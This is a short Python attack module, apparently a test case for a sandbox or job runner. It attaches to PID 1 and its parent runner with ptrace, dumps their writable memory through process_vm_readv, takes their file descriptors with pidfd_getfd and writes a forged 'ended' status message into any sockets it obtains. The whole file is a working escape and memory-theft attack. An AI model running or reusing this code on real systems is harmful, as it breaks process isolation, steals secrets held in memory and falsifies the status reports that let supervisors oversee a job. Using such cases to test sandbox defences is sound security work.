"""Attaches to the runner and PID 1 by ptrace, process_vm_readv and pidfd_getfd, and speaks through what it takes."""

# attacks: join_before_get

import ctypes
import os
import signal
import socket

PTRACE_SEIZE = 0x4206
PIDFD_GETFD = 438
LIBC = ctypes.CDLL(None, use_errno=True)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def _read(pid):
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            span, mode = line.split()[:2]
            if mode.startswith("rw"):
                start, end = (int(word, 16) for word in span.split("-"))
                size = min(end - start, 1 << 22)
                buffer = ctypes.create_string_buffer(size)
                here, there = Piece(ctypes.addressof(buffer), size), Piece(start, size)
                LIBC.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
                loot(buffer.raw)


def _speak(pid):
    descriptor = os.pidfd_open(pid)
    for number in range(256):
        taken = LIBC.syscall(PIDFD_GETFD, descriptor, number, 0)
        if taken >= 0:
            with socket.socket(fileno=taken) as line:
                attempt(line.send, b'{"type":"ended","status":127}')


def attack():
    for pid in (1, os.getppid()):
        attempt(_read, pid)
        LIBC.ptrace(PTRACE_SEIZE, pid, 0, 0)
        attempt(_speak, pid)
        attempt(os.kill, pid, signal.SIGCONT)
